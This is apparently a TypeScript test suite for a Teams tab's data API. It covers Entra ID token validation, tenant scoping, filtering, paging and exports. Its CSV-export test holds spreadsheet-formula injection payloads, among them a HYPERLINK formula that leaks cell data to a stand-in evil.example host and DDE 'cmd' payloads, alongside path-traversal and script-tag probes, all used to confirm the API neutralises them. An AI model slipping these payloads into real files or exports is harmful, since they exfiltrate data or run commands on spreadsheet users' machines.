/** The tab's data API: Teams SSO tokens validated as Entra ID tokens, scoped to the partner tenant. */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse as parseCsv } from 'csv-parse/sync';
import { SignJWT, exportJWK, generateKeyPair, type KeyLike } from 'jose';
import { createEscalation, transition } from '../../src/domain/escalation';
import { entraIssuers } from '../../src/tab/api';
import { CONTOSO, ENGINEER, OTHER_PARTNER, PARTNER, addEscalation, incidentRecord, startTabServer, type TabServer } from './fixtures';

const APP_ID = '11111111-2222-4333-8444-555555555555';
const HOST = 'desk.example.com';
const AUDIENCE = `api://${HOST}/${APP_ID}`;
const LOGIN = 'https://login.microsoftonline.com';
const KID = 'test-key-1';
/** Every data route of the tab besides the export: none answers without the caller's token. */
const PROTECTED_PATHS = ['/api/escalations', '/api/incidents', '/api/incidents/EX400001', '/api/reports/response-times', '/api/reports/response-times?format=csv', '/api/access/renewals'];

/** A local stand-in for Entra ID's JWKS endpoint, serving one public key. */
async function startJwks(jwk: Record<string, unknown>): Promise<{ url: string; server: Server; hits: () => number }> {
  let hits = 0;
  const server = createServer((_req, res) => {
    hits += 1;
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ keys: [jwk] }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/discovery/v2.0/keys`, server, hits: () => hits };
}

interface TokenOptions {
  readonly key?: KeyLike;
  readonly kid?: string;
  readonly tid?: string;
  readonly iss?: string;
  readonly aud?: string;
  readonly expiresAt?: number;
  /** Delegated scopes (space-separated); null leaves the claim out. Default: the tab's `access_as_user`. */
  readonly scp?: string | null;
  readonly idtyp?: string;
  readonly roles?: readonly string[];
}

describe('tab API', () => {
  let signingKey: KeyLike;
  let otherKey: KeyLike;
  let jwks: Awaited<ReturnType<typeof startJwks>>;
  let tab: TabServer;

  /** Signs a token the way Entra ID does for Teams SSO (v2 issuer unless told otherwise). */
  const token = async (o: TokenOptions = {}): Promise<string> => {
    const tid = o.tid ?? PARTNER;
    const scp = o.scp === undefined ? 'access_as_user' : o.scp;
    return new SignJWT({
      tid,
      oid: 'aaaaaaaa-0000-4000-8000-0000000000e1',
      name: 'Ada Engineer',
      ver: '2.0',
      ...(scp === null ? {} : { scp }),
      ...(o.idtyp ? { idtyp: o.idtyp } : {}),
      ...(o.roles ? { roles: o.roles } : {}),
    })
      .setProtectedHeader({ alg: 'RS256', kid: o.kid ?? KID, typ: 'JWT' })
      .setIssuer(o.iss ?? `${LOGIN}/${tid}/v2.0`)
      .setAudience(o.aud ?? AUDIENCE)
      .setSubject('subject-1')
      .setIssuedAt()
      .setExpirationTime(o.expiresAt ?? Math.floor(Date.now() / 1000) + 3600)
      .sign(o.key ?? signingKey);
  };

  const get = async (path: string, bearer?: string, headers: Record<string, string> = {}) => {
    const res = await fetch(`${tab.url}${path}`, { headers: { ...(bearer ? { authorization: `Bearer ${bearer}` } : {}), ...headers } });
    const text = await res.text();
    return { status: res.status, etag: res.headers.get('etag'), body: text ? (JSON.parse(text) as Record<string, unknown>) : undefined };
  };
  const ids = (body: Record<string, unknown> | undefined): string[] =>
    ((body?.items ?? []) as { id: string }[]).map((i) => i.id).sort();

  before(async () => {
    const pair = await generateKeyPair('RS256', { extractable: true });
    signingKey = pair.privateKey;
    ({ privateKey: otherKey } = await generateKeyPair('RS256'));
    jwks = await startJwks({ ...(await exportJWK(pair.publicKey)), kid: KID, alg: 'RS256', use: 'sig' });
    tab = await startTabServer({
      mode: 'entra',
      appId: APP_ID,
      audience: [AUDIENCE, APP_ID],
      partnerTenantId: PARTNER,
      loginEndpoint: LOGIN,
      jwksUrl: jwks.url,
    });
  });

  after(async () => {
    await tab.stop();
    jwks.server.closeAllConnections();
    await new Promise<void>((resolve) => jwks.server.close(() => resolve()));
  });

  it('refuses a request without a token (401, WWW-Authenticate)', async () => {
    for (const path of PROTECTED_PATHS) {
      const res = await fetch(`${tab.url}${path}`);
      assert.equal(res.status, 401, path);
      assert.equal(res.headers.get('www-authenticate'), 'Bearer', path);
      assert.equal((await get(path, 'not-a-jwt')).status, 401, path);
    }
  });

  it('refuses an expired token (401)', async () => {
    const expired = await token({ expiresAt: Math.floor(Date.now() / 1000) - 3600 });
    assert.equal((await get('/api/escalations', expired)).status, 401);
  });

  it('refuses a token signed with another key, whatever its kid (401)', async () => {
    assert.equal((await get('/api/escalations', await token({ key: otherKey }))).status, 401);
    assert.equal((await get('/api/escalations', await token({ key: otherKey, kid: 'unknown-kid' }))).status, 401);
  });

  it('refuses a token for another audience (401)', async () => {
    assert.equal((await get('/api/escalations', await token({ aud: 'api://evil.example.com/' + APP_ID }))).status, 401);
  });

  it('refuses a token whose issuer is not Entra ID for its own tenant (401)', async () => {
    assert.equal((await get('/api/escalations', await token({ iss: `${LOGIN}/${OTHER_PARTNER}/v2.0` }))).status, 401);
    assert.equal((await get('/api/escalations', await token({ iss: 'https://issuer.example.com/' }))).status, 401);
  });

  it('refuses a valid token of another tenant (403)', async () => {
    const other = await token({ tid: OTHER_PARTNER });
    for (const path of PROTECTED_PATHS) assert.equal((await get(path, other)).status, 403, path);
  });

  it('reports on the caller\u2019s tenant\u2019s escalations only', async () => {
    const res = await get('/api/reports/response-times', await token());
    assert.equal(res.status, 200);
    // Contoso's mail and Fabrikam's Teams problems; the closed SharePoint one was never going to be told, and the other partner's is not ours.
    assert.equal((res.body?.partner as { escalations: number }).escalations, 2);
  });

  it('refuses a token without the delegated scope access_as_user (403 insufficient_scope) on the list and the export', async () => {
    const refused: [string, TokenOptions][] = [
      ['an app-only token (roles, idtyp=app, no scp)', { scp: null, idtyp: 'app', roles: ['Escalations.Read.All'] }],
      ['a token with no scp at all', { scp: null }],
      ['a token for another scope', { scp: 'Files.Read' }],
      ['a scope that only starts like ours', { scp: 'access_as_user_admin User.Read' }],
      ['an app token that also claims the scope', { scp: 'access_as_user', idtyp: 'app' }],
    ];
    for (const [name, claims] of refused) {
      const t = await token(claims);
      for (const path of [...PROTECTED_PATHS, `/api/escalations/export?customer=${CONTOSO}&format=csv`, '/api/escalations/esc-contoso-mail']) {
        const res = await fetch(`${tab.url}${path}`, { headers: { authorization: `Bearer ${t}` } });
        assert.equal(res.status, 403, `${name}: ${path}`);
        assert.match(res.headers.get('www-authenticate') ?? '', /^Bearer error="insufficient_scope", scope="access_as_user"$/, name);
        assert.equal(((await res.json()) as { code: string }).code, 'InsufficientScope', name);
      }
    }
    const withOthers = await token({ scp: 'User.Read access_as_user' });
    assert.equal((await get('/api/escalations', withOthers)).status, 200);
    const csv = await fetch(`${tab.url}/api/escalations/export?customer=${CONTOSO}&format=csv`, { headers: { authorization: `Bearer ${withOthers}` } });
    assert.equal(csv.status, 200);
  });

  it('lists only the partner tenant\u2019s escalations for a valid token (v2 and v1 issuers, both audiences)', async () => {
    const res = await get('/api/escalations', await token());
    assert.equal(res.status, 200);
    assert.deepEqual(ids(res.body), ['esc-contoso-mail', 'esc-contoso-sharepoint', 'esc-fabrikam-teams']);
    assert.deepEqual(res.body?.identity, { development: false, name: 'Ada Engineer' });
    const row = (res.body?.items as Record<string, unknown>[]).find((i) => i.id === 'esc-contoso-mail');
    assert.equal(row?.serviceRequestId, '2405010010001234');
    assert.equal(row?.state, 'escalated');
    assert.equal(row?.owner, 'Ada Engineer');

    const v1 = await get('/api/escalations', await token({ iss: `https://sts.windows.net/${PARTNER}/`, aud: APP_ID }));
    assert.equal(v1.status, 200);
    assert.equal(ids(v1.body).length, 3);
  });

  it('an upper-case partner tenant id (as typed in PARTNER_TENANT_ID) still lists the tenant\u2019s escalations, and an upper-case customer filter matches', async () => {
    const upper = await startTabServer({
      mode: 'entra',
      appId: APP_ID,
      audience: [AUDIENCE, APP_ID],
      partnerTenantId: PARTNER.toUpperCase(),
      loginEndpoint: LOGIN,
      jwksUrl: jwks.url,
    });
    try {
      const t = await token();
      const list = await fetch(`${upper.url}/api/escalations`, { headers: { authorization: `Bearer ${t}` } });
      assert.equal(list.status, 200);
      const items = ((await list.json()) as { items: { id: string }[] }).items.map((i) => i.id).sort();
      assert.deepEqual(items, ['esc-contoso-mail', 'esc-contoso-sharepoint', 'esc-fabrikam-teams']);
      const one = await fetch(`${upper.url}/api/escalations/esc-contoso-mail`, { headers: { authorization: `Bearer ${t}` } });
      assert.equal(one.status, 200);
      const byCustomer = await fetch(`${upper.url}/api/escalations?customer=${CONTOSO.toUpperCase()}`, { headers: { authorization: `Bearer ${t}` } });
      assert.deepEqual(((await byCustomer.json()) as { items: { id: string }[] }).items.map((i) => i.id).sort(), ['esc-contoso-mail', 'esc-contoso-sharepoint']);
      const exported = await fetch(`${upper.url}/api/escalations/export?customer=${CONTOSO.toUpperCase()}&format=json`, { headers: { authorization: `Bearer ${t}` } });
      assert.equal(((await exported.json()) as { escalations: unknown[] }).escalations.length, 2);
    } finally {
      await upper.stop();
    }
  });

  it('filters by state (one, several, or open) and by customer', async () => {
    const t = await token();
    assert.deepEqual(ids((await get('/api/escalations?state=escalated', t)).body), ['esc-contoso-mail']);
    assert.deepEqual(ids((await get('/api/escalations?state=triage,closed', t)).body), ['esc-contoso-sharepoint', 'esc-fabrikam-teams']);
    assert.deepEqual(ids((await get('/api/escalations?state=open', t)).body), ['esc-contoso-mail', 'esc-fabrikam-teams']);
    assert.deepEqual(ids((await get(`/api/escalations?customer=${CONTOSO}`, t)).body), ['esc-contoso-mail', 'esc-contoso-sharepoint']);
    assert.deepEqual(ids((await get(`/api/escalations?customer=${CONTOSO}&state=open`, t)).body), ['esc-contoso-mail']);
    assert.equal((await get('/api/escalations?state=bogus', t)).status, 400);
    assert.equal((await get('/api/escalations?cursor=not-a-cursor', t)).status, 400);
  });

  it('pages with a cursor', async () => {
    const t = await token();
    const first = await get('/api/escalations?limit=2', t);
    assert.equal((first.body?.items as unknown[]).length, 2);
    assert.ok(typeof first.body?.nextCursor === 'string');
    const second = await get(`/api/escalations?limit=2&cursor=${encodeURIComponent(String(first.body?.nextCursor))}`, t);
    assert.equal((second.body?.items as unknown[]).length, 1);
    assert.equal(second.body?.nextCursor, undefined);
  });

  it('answers 304 to If-None-Match while nothing changed', async () => {
    const t = await token();
    const first = await get('/api/escalations', t);
    assert.ok(first.etag);
    const again = await get('/api/escalations', t, { 'if-none-match': first.etag ?? '' });
    assert.equal(again.status, 304);
  });

  it('shows one escalation with its audit trail, and 404 for another tenant\u2019s', async () => {
    const t = await token();
    const res = await get('/api/escalations/esc-contoso-mail', t);
    assert.equal(res.status, 200);
    const audit = res.body?.audit as { from: string | null; to: string }[];
    assert.deepEqual(audit.map((e) => e.to), ['draft', 'triage', 'awaiting_handoff', 'escalated']);
    assert.equal(audit[0]?.from, null);
    assert.equal((await get('/api/escalations/esc-other-partner', t)).status, 404);
    assert.equal((await get('/api/escalations/esc-other-partner/card', t)).status, 404);
    assert.equal((await get('/api/escalations/no-such-id', t)).status, 404);
  });

  it('renders the card through the injected cardFor, with a checked locale', async () => {
    const t = await token();
    const res = await get('/api/escalations/esc-contoso-mail/card?locale=ko-KR', t);
    assert.equal(res.status, 200);
    const card = res.body?.card as { type: string; body: { facts?: { title: string; value: string }[] }[] };
    assert.equal(card.type, 'AdaptiveCard');
    assert.deepEqual(card.body[1]?.facts?.[1], { title: 'Locale', value: 'ko-KR' });
    const bad = await get('/api/escalations/esc-contoso-mail/card?locale=%3Cscript%3E', t);
    assert.deepEqual((bad.body?.card as typeof card).body[1]?.facts?.[1], { title: 'Locale', value: 'en-US' });
  });

  it('never writes a token or a user name to the log', async () => {
    const t = await token();
    await get('/api/escalations', t);
    await get('/api/escalations', await token({ tid: OTHER_PARTNER }));
    const all = tab.logs.join('\n');
    assert.ok(tab.logs.length > 0, 'refusals are logged at debug level');
    assert.ok(!all.includes(t.split('.')[1] ?? '-'), 'no token in the log');
    assert.ok(!all.includes('Ada Engineer'), 'no user name in the log');
    assert.ok(jwks.hits() >= 1, 'keys came from the JWKS endpoint');
  });

  it('exports a customer\u2019s escalations with their timelines as JSON and CSV, for its own tenant only', async () => {
    const json = await get(`/api/escalations/export?customer=${CONTOSO}&format=json`, await token());
    assert.equal(json.status, 200);
    const exported = json.body?.escalations as { escalation: { id: string; partnerTenantId: string }; audit: { to: string }[] }[];
    assert.deepEqual(exported.map((r) => r.escalation.id).sort(), ['esc-contoso-mail', 'esc-contoso-sharepoint']);
    const mail = exported.find((r) => r.escalation.id === 'esc-contoso-mail');
    assert.deepEqual(mail?.audit.map((e) => e.to), ['draft', 'triage', 'awaiting_handoff', 'escalated']);

    const res = await fetch(`${tab.url}/api/escalations/export?customer=${CONTOSO}&format=csv`, { headers: { authorization: `Bearer ${await token()}` } });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
    const lines = (await res.text()).trim().split('\n');
    assert.equal(lines[0], 'escalationId,customer,service,title,serviceRequestId,at,actorKind,actor,from,to,reason');
    assert.ok(lines.some((l) => l.startsWith('esc-contoso-mail,Contoso Ltd,Exchange Online,') && l.includes(',2405010010001234,') && l.endsWith(',awaiting_handoff,escalated,')));

    assert.equal((await get(`/api/escalations/export?customer=${CONTOSO}`)).status, 401);
    assert.equal((await get(`/api/escalations/export?customer=${CONTOSO}`, await token({ tid: OTHER_PARTNER }))).status, 403);
    assert.equal((await get('/api/escalations/export?customer=contoso', await token())).status, 400);
    assert.equal((await get(`/api/escalations/export?customer=${CONTOSO}&format=xml`, await token())).status, 400);
  });

  it('neutralises spreadsheet formulas in the CSV export (a leading \' on = + - @, tab and CR cells)', async () => {
    const customer = 'b0000000-0000-4000-8000-00000000b001';
    const hostile = {
      hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      dde: "=cmd|' /C calc'!A0",
      minus: '-2+3+cmd|\' /C calc\'!A0',
      at: '@SUM(1)',
      tab: '\t=1+1',
      cr: '\r=1+1',
      plus: '+1+1',
    };
    const actor = { kind: 'user' as const, id: ENGINEER.id, name: hostile.at };
    const created = createEscalation(
      {
        id: 'esc-formulas',
        partnerTenantId: PARTNER,
        ownerId: ENGINEER.id,
        customer: { tenantId: customer, name: hostile.dde },
        service: hostile.tab,
        title: hostile.hyperlink,
        description: 'formulas',
      },
      actor,
      new Date(),
    );
    const stored = await tab.database.escalations.create(created.escalation, [created.event]);
    const moved = transition(stored, 'triage', { actor: { ...actor, name: hostile.cr }, at: new Date() });
    const triaged = await tab.database.escalations.update(moved.escalation, stored.version, [moved.event]);
    const cancelled = transition(triaged, 'cancelled', { actor: { ...actor, name: hostile.plus }, at: new Date(), reason: hostile.minus });
    await tab.database.escalations.update(cancelled.escalation, triaged.version, [cancelled.event]);

    const res = await fetch(`${tab.url}/api/escalations/export?customer=${customer}&format=csv`, { headers: { authorization: `Bearer ${await token()}` } });
    assert.equal(res.status, 200);
    const rows = parseCsv<Record<string, string>>(await res.text(), { columns: true });
    assert.equal(rows.length, 3);
    const cells = rows.flatMap((r) => Object.values(r));
    assert.deepEqual(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), [], 'no cell starts a formula');
    const first = rows[0] ?? {};
    assert.equal(first.title, `'${hostile.hyperlink}`);
    assert.equal(first.customer, `'${hostile.dde}`);
    assert.equal(first.service, `'${hostile.tab}`);
    const byTo = new Map(rows.map((r) => [r.to, r]));
    assert.equal(byTo.get('draft')?.actor, `'${hostile.at}`);
    assert.equal(byTo.get('triage')?.actor, `'${hostile.cr}`);
    assert.equal(byTo.get('cancelled')?.actor, `'${hostile.plus}`);
    assert.equal(byTo.get('cancelled')?.reason, `'${hostile.minus}`);
  });

  it('counts and lists only the caller\u2019s tenant\u2019s escalations on an incident', async () => {
    await tab.database.incidents.save({
      incident: incidentRecord({ id: 'EX400001', customers: [{ tenantId: CONTOSO, name: 'Contoso Ltd', firstSeenAt: '2026-12-05T08:10:00.000Z', lastSeenAt: '2026-12-05T08:10:00.000Z' }] }),
      expectedVersion: 0,
      card: undefined,
    });
    const known = { knownIssue: { id: 'EX400001', title: 'Mail delayed' } };
    const step = [{ to: 'known_issue' as const, at: '2026-12-05T08:41:00.000Z', details: known }];
    await addEscalation(tab.database, { id: 'esc-ex4-mine', customer: { tenantId: CONTOSO, name: 'Contoso Ltd' }, createdAt: '2026-12-05T08:40:00.000Z', steps: step });
    await addEscalation(tab.database, { id: 'esc-ex4-theirs', partner: OTHER_PARTNER, customer: { tenantId: CONTOSO, name: 'Contoso Ltd' }, createdAt: '2026-12-05T08:40:00.000Z', steps: step });
    const t = await token();
    const list = await get('/api/incidents', t);
    assert.equal(list.status, 200);
    const row = (list.body?.incidents as { id: string; openEscalationCount: number }[]).find((i) => i.id === 'EX400001');
    assert.equal(row?.openEscalationCount, 1);
    const one = await get('/api/incidents/EX400001', t);
    const customers = (one.body?.incident as { customers: { escalations: { id: string }[] }[] }).customers;
    assert.deepEqual(customers[0]?.escalations.map((e) => e.id), ['esc-ex4-mine']);
    assert.equal((await get('/api/incidents/EX400002', t)).status, 404);
  });

  it('knows the v1 and v2 issuers of each cloud', () => {
    assert.deepEqual(entraIssuers('https://login.microsoftonline.us/', PARTNER), [`https://login.microsoftonline.us/${PARTNER}/v2.0`, `https://sts.windows.net/${PARTNER}/`]);
    assert.ok(entraIssuers('https://login.chinacloudapi.cn', PARTNER).includes(`https://sts.chinacloudapi.cn/${PARTNER}/`));
  });
});

describe('tab API in development mode', () => {
  let tab: TabServer;
  before(async () => {
    tab = await startTabServer({ mode: 'development' });
  });
  after(async () => {
    await tab.stop();
  });

  it('serves a development identity without a token, for any tenant', async () => {
    const res = await fetch(`${tab.url}/api/escalations`);
    assert.equal(res.status, 200);
    const body = (await res.json()) as { identity: unknown; items: unknown[] };
    assert.deepEqual(body.identity, { development: true, name: 'Development user' });
    assert.equal(body.items.length, 4);
  });

  it('serves the page with a CSP that lets Teams frame it, and the vendor scripts', async () => {
    const page = await fetch(`${tab.url}/tab/index.html`);
    assert.equal(page.status, 200);
    assert.match(page.headers.get('content-security-policy') ?? '', /frame-ancestors [^;]*https:\/\/teams\.microsoft\.com/);
    for (const path of ['/tab/vendor/teams-js.js', '/tab/vendor/adaptivecards.js', '/tab/app.js', '/tab/strings.json', '/tab/config.html', '/tab', '/tab/']) {
      assert.equal((await fetch(`${tab.url}${path}`)).status, 200, path);
    }
    for (const path of ['/tab/vendor/nope.js', '/tab/..%2Fapi.ts', '/tab/secret.txt', '/tab/nope.js', '/tab/API.ts']) {
      assert.equal((await fetch(`${tab.url}${path}`)).status, 404, path);
    }
  });

  it('serves the page at /tab/ (the README\u2019s address) as at /tab', async () => {
    for (const path of ['/tab/', '/tab']) {
      const res = await fetch(`${tab.url}${path}`);
      assert.equal(res.status, 200, path);
      assert.match(res.headers.get('content-type') ?? '', /^text\/html/, path);
      assert.match(res.headers.get('content-security-policy') ?? '', /script-src 'self'/, path);
      assert.match(await res.text(), /<main/, path);
    }
  });

  it('serves the page\u2019s strings from locales/ in the reader\u2019s language, with the chat\u2019s state names', async () => {
    const strings = async (locale: string) => (await (await fetch(`${tab.url}/tab/strings.json?locale=${locale}`)).json()) as {
      language: string;
      tab: { title: { personal: string } };
      states: Record<string, string>;
      clocks: { microsoft: { running: string } };
    };
    const ko = await strings('ko-KR');
    assert.equal(ko.language, 'ko');
    assert.equal(ko.tab.title.personal, '내 에스컬레이션');
    assert.equal(ko.states.awaiting_handoff, '파트너 센터 요청 대기');
    assert.match(ko.clocks.microsoft.running, /첫 응답 기한/);
    const en = await strings('fr-FR');
    assert.equal(en.language, 'en');
    assert.equal(en.tab.title.personal, 'My escalations');
    assert.equal(en.states.awaiting_handoff, 'Waiting for the Partner Center request');
  });

  it('answers the card read-only: no actions for the tab to show', async () => {
    const body = (await (await fetch(`${tab.url}/api/escalations/esc-contoso-mail/card?locale=en-US`)).json()) as { card: Record<string, unknown> };
    assert.equal(body.card.type, 'AdaptiveCard');
    assert.equal('actions' in body.card, false);
    assert.doesNotMatch(JSON.stringify(body.card), /Action\./);
  });

  it('gives no "Open in chat" link in local mode (no bot app id)', async () => {
    const body = (await (await fetch(`${tab.url}/api/escalations/esc-contoso-mail`)).json()) as Record<string, unknown>;
    assert.equal('chatUrl' in body, false);
  });
});

describe('tab API with a bot app id', () => {
  let tab: TabServer;
  before(async () => {
    tab = await startTabServer({ mode: 'development' }, { chatLink: { botAppId: 'b0b0b0b0-0000-4000-8000-000000000001', cloud: 'public' } });
  });
  after(async () => {
    await tab.stop();
  });

  it('links each escalation to its chat with the bot', async () => {
    const body = (await (await fetch(`${tab.url}/api/escalations/esc-contoso-mail`)).json()) as { chatUrl?: string };
    assert.equal(body.chatUrl, 'https://teams.microsoft.com/l/chat/0/0?users=28%3Ab0b0b0b0-0000-4000-8000-000000000001');
  });
});
